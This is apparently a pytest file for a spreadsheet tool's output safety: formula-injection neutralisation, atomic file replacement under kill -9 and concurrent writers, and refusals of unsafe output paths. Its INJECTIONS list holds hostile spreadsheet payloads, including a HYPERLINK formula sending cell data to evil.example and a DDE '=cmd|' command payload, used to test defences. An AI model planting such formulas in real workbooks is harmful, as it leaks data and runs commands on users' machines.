"""Output safety: no formula the tool did not author, atomic replacement that survives kill -9,
parallel writers, and refusals (output = input, wrong extension, file open in Excel)."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from model.errors import InputError
from model.io import atomic
from model.io.atomic import refuse_if_locked, sweep_stale_temp_files, write_atomically
from tests import hostile_corpus as hc

ROOT = Path(__file__).resolve().parents[1]

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+CN", "-1+2", "@SUM(1,2)", "\t=TAB()",
              "=cmd|'/c calc'!A0"]


def temp_files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".~"))


def assert_no_formulas(path: Path) -> list[str]:
    """Every cell of every sheet: never a formula; return all string values seen."""
    wb = openpyxl.load_workbook(path, data_only=False)
    texts = []
    try:
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
    finally:
        wb.close()
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    return texts


# ------------------------------------------------------------------ formula injection


def injection_workbook(path: Path) -> Path:
    sheets = hc.valid_sheets()
    sheets["Countries"] += [[code, code, "Pax Silica", 0.1] for code in INJECTIONS]
    sheets["Countries"][1][1] = '=HYPERLINK("http://evil.example","United States")'
    sheets["Commodities"].append(["=1+1", "@chip", "+t", None, None])
    sheets["Supply"] += [[code, "REO", 2026, 10, 1 + i] for i, code in enumerate(INJECTIONS)]
    sheets["Supply"].append([INJECTIONS[0], "=1+1", 2026, 10, 1])
    sheets["Demand"] += [[INJECTIONS[1], "REO", 2026, 5], ["USA", "=1+1", 2026, 5]]
    return hc.write_sheets(path, sheets)


def test_injected_text_is_literal_in_the_plan(tmp_path):
    source = injection_workbook(tmp_path / "=1+2.xlsx")  # even the file name lands in the Summary
    out = tmp_path / "plan.xlsx"
    from model.cli import main

    result = CliRunner().invoke(main, ["solve", str(source), "-o", str(out)])
    assert result.exit_code == 0, result.stderr
    texts = assert_no_formulas(out)
    for code in ["=1+1", INJECTIONS[0], "+CN", "-1+2", "@SUM(1,2)", "=TAB()"]:
        assert code in texts, code


def test_writer_stores_every_string_as_text(tmp_path):
    from model.io.writer import write_tables

    table = pd.DataFrame({"name": INJECTIONS + ["\r=CR()", "=1+1"], "value": range(len(INJECTIONS) + 2)})
    out = tmp_path / "tables.xlsx"
    write_tables({"Names": table}, out)
    texts = assert_no_formulas(out)
    assert set(INJECTIONS) <= set(texts)


# ------------------------------------------------------------------ atomic replacement

WRITER = textwrap.dedent("""
    import sys, time
    from pathlib import Path
    from model.io import atomic

    target, mode = Path(sys.argv[1]), sys.argv[2]
    if mode == "named":  # the portable fallback, as on systems without O_TMPFILE
        atomic._write_via_tmpfile = lambda path, write: False

    def slow(handle):
        handle.write(b"NEW-PARTIAL" * 10000)
        handle.flush()
        print("writing", flush=True)
        time.sleep(60)

    atomic.write_atomically(target, slow)
""")


def start_killed_writer(target: Path, mode: str) -> None:
    proc = subprocess.Popen([sys.executable, "-c", WRITER, str(target), mode], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, cwd=ROOT)
    try:
        line = proc.stdout.readline()
        assert line.strip() == "writing", proc.stderr.read()
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == -signal.SIGKILL


@pytest.mark.skipif(not hasattr(os, "O_TMPFILE"), reason="O_TMPFILE is Linux only")
def test_kill_9_mid_write_leaves_previous_output_and_no_temp_file(tmp_path):
    target = tmp_path / "plan.xlsx"
    target.write_bytes(b"PREVIOUS")
    start_killed_writer(target, "tmpfile")
    assert target.read_bytes() == b"PREVIOUS"
    assert temp_files(tmp_path) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.xlsx"]


def test_kill_9_with_named_temp_fallback_is_swept_by_the_next_write(tmp_path):
    target = tmp_path / "plan.xlsx"
    target.write_bytes(b"PREVIOUS")
    start_killed_writer(target, "named")
    assert target.read_bytes() == b"PREVIOUS"
    left = temp_files(tmp_path)
    assert len(left) == 1 and left[0].startswith(".~plan.xlsx.") and left[0].endswith(".tmp")
    # a fresh temp file may belong to a live writer on another machine: kept until it is stale
    assert sweep_stale_temp_files(tmp_path) == []
    old = time.time() - atomic.STALE_AFTER_S - 1
    os.utime(tmp_path / left[0], (old, old))
    write_atomically(target, lambda h: h.write(b"NEXT"))
    assert target.read_bytes() == b"NEXT"
    assert temp_files(tmp_path) == []


def test_sweep_keeps_temp_files_of_live_processes_and_foreign_files(tmp_path):
    mine = tmp_path / f".~plan.xlsx.{os.getpid()}.0123456789abcdef.tmp"
    foreign = tmp_path / ".~notes.tmp"
    for path in (mine, foreign):
        path.write_bytes(b"x")
        old = time.time() - atomic.STALE_AFTER_S - 1
        os.utime(path, (old, old))
    assert sweep_stale_temp_files(tmp_path) == []
    assert mine.exists() and foreign.exists()


@pytest.mark.parametrize("mode", ["tmpfile", "named"])
def test_exception_mid_write_leaves_previous_output_and_no_temp_file(tmp_path, monkeypatch, mode):
    if mode == "named":
        monkeypatch.setattr(atomic, "_write_via_tmpfile", lambda path, write: False)
    target = tmp_path / "plan.xlsx"
    target.write_bytes(b"PREVIOUS")

    def broken(handle):
        handle.write(b"HALF")
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        write_atomically(target, broken)
    assert target.read_bytes() == b"PREVIOUS"
    assert temp_files(tmp_path) == []


@pytest.mark.parametrize("mode", ["tmpfile", "named"])
def test_new_file_is_complete_and_readable(tmp_path, monkeypatch, mode):
    if mode == "named":
        monkeypatch.setattr(atomic, "_write_via_tmpfile", lambda path, write: False)
    target = tmp_path / "new.xlsx"
    wb = openpyxl.Workbook()
    wb.active["A1"] = "ok"
    write_atomically(target, wb.save)
    assert openpyxl.load_workbook(target)["Sheet"]["A1"].value == "ok"
    assert temp_files(tmp_path) == []
    umask = os.umask(0o022)
    os.umask(umask)
    assert target.stat().st_mode & 0o777 == 0o666 & ~umask  # like any new file, not 0600


CONCURRENT = textwrap.dedent("""
    import sys
    from pathlib import Path
    import openpyxl
    from model.io.atomic import write_atomically

    folder, tag, mode = Path(sys.argv[1]), sys.argv[2], sys.argv[3]
    if mode == "named":
        import model.io.atomic as atomic
        atomic._write_via_tmpfile = lambda path, write: False
    for i in range(6):
        wb = openpyxl.Workbook()
        ws = wb.active
        for r in range(1, 100):
            ws.append([tag, i, r])
        write_atomically(folder / "shared.xlsx", wb.save)
        write_atomically(folder / f"own-{tag}.xlsx", wb.save)
""")


@pytest.mark.parametrize("mode", ["tmpfile", "named"])
def test_two_processes_writing_one_folder_produce_valid_files(tmp_path, mode):
    procs = [subprocess.Popen([sys.executable, "-c", CONCURRENT, str(tmp_path), tag, mode], cwd=ROOT,
                              stderr=subprocess.PIPE, text=True) for tag in ("A", "B")]
    seen = 0
    deadline = time.monotonic() + 60
    while any(p.poll() is None for p in procs) and time.monotonic() < deadline:
        shared = tmp_path / "shared.xlsx"
        if shared.exists():  # a reader never sees half a file
            with zipfile.ZipFile(shared) as archive:
                assert archive.testzip() is None
            seen += 1
        time.sleep(0.01)
    for p in procs:
        assert p.wait(timeout=60) == 0, p.stderr.read()
    for name, tags in (("shared.xlsx", {"A", "B"}), ("own-A.xlsx", {"A"}), ("own-B.xlsx", {"B"})):
        ws = openpyxl.load_workbook(tmp_path / name, read_only=True).active
        rows = list(ws.iter_rows(values_only=True))
        assert len(rows) == 99 and rows[0][0] in tags and rows[0][1] == 5
    assert temp_files(tmp_path) == []


# ------------------------------------------------------------------ refusals


def test_output_may_not_be_an_input_in_any_spelling(tmp_path):
    source = hc.write_sheets(tmp_path / "in.xlsx")
    (tmp_path / "sub").mkdir()
    (tmp_path / "link.xlsx").symlink_to(source)
    os.link(source, tmp_path / "hard.xlsx")
    before = source.read_bytes()
    spellings = [source, tmp_path / "sub" / ".." / "in.xlsx", tmp_path / "link.xlsx", tmp_path / "hard.xlsx",
                 Path(os.path.relpath(source))]
    for out in spellings:
        with pytest.raises(InputError) as info:
            write_atomically(out, lambda h: h.write(b"x"), inputs=[source])
        assert "is the input workbook" in str(info.value), out
    # the input named through a symlink is protected too
    with pytest.raises(InputError):
        write_atomically(source, lambda h: h.write(b"x"), inputs=[tmp_path / "link.xlsx"])
    assert source.read_bytes() == before
    assert temp_files(tmp_path) == []


def test_case_difference_on_a_case_insensitive_filesystem(tmp_path):
    source = hc.write_sheets(tmp_path / "In.xlsx")
    upper = tmp_path / "IN.XLSX"
    if not upper.exists():
        pytest.skip("this filesystem is case-sensitive: IN.XLSX is another file")
    with pytest.raises(InputError):
        write_atomically(upper, lambda h: h.write(b"x"), inputs=[source])


def test_wrong_extension_is_refused_when_the_caller_says(tmp_path):
    with pytest.raises(InputError) as info:
        write_atomically(tmp_path / "plan.xlsm", lambda h: h.write(b"x"), suffixes=(".xlsx",))
    assert "must end in .xlsx" in str(info.value)
    write_atomically(tmp_path / "plan.XLSX", lambda h: h.write(b"x"), suffixes=(".xlsx",))
    write_atomically(tmp_path / "t.parquet", lambda h: h.write(b"x"), suffixes=(".parquet", ".csv"))


def test_folder_as_output_and_missing_folder(tmp_path):
    (tmp_path / "out.xlsx").mkdir()
    with pytest.raises(InputError, match="is a folder"):
        write_atomically(tmp_path / "out.xlsx", lambda h: h.write(b"x"))
    with pytest.raises(InputError, match="does not exist"):
        write_atomically(tmp_path / "nowhere" / "out.xlsx", lambda h: h.write(b"x"))


@pytest.mark.parametrize("lock", ["~$plan.xlsx", ".~lock.plan.xlsx#"])
def test_refuse_while_excel_or_libreoffice_has_the_output_open(tmp_path, lock):
    target = tmp_path / "plan.xlsx"
    target.write_bytes(b"PREVIOUS")
    (tmp_path / lock).write_bytes(b"owner")
    with pytest.raises(InputError) as info:
        refuse_if_locked(target)
    assert "is open in Excel or LibreOffice" in str(info.value) and lock in str(info.value)
    with pytest.raises(InputError):
        write_atomically(target, lambda h: h.write(b"NEW"))
    assert target.read_bytes() == b"PREVIOUS"
    # another workbook open in Excel does not block this one
    (tmp_path / lock).unlink()
    (tmp_path / "~$other.xlsx").write_bytes(b"owner")
    write_atomically(target, lambda h: h.write(b"NEW"))
    assert target.read_bytes() == b"NEW"


def test_cli_refuses_output_equal_to_input_and_locked_output(tmp_path):
    from model.cli import main

    source = hc.write_sheets(tmp_path / "in.xlsx")
    before = source.read_bytes()
    result = CliRunner().invoke(main, ["solve", str(source), "-o", str(tmp_path / "." / "in.xlsx")])
    assert result.exit_code == 2 and "is the input workbook" in result.stderr
    assert source.read_bytes() == before
    out = tmp_path / "plan.xlsx"
    (tmp_path / "~$plan.xlsx").write_bytes(b"owner")
    result = CliRunner().invoke(main, ["solve", str(source), "-o", str(out)])
    assert result.exit_code == 2 and "is open in Excel" in result.stderr and not out.exists()
    assert "Traceback" not in result.stderr


@pytest.mark.skipif(sys.platform == "win32" or os.geteuid() == 0, reason="root writes anywhere")
def test_unwritable_folder_is_a_plain_refusal(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        with pytest.raises(InputError, match="cannot be written"):
            write_atomically(folder / "plan.xlsx", lambda h: h.write(b"x"))
    finally:
        folder.chmod(0o755)
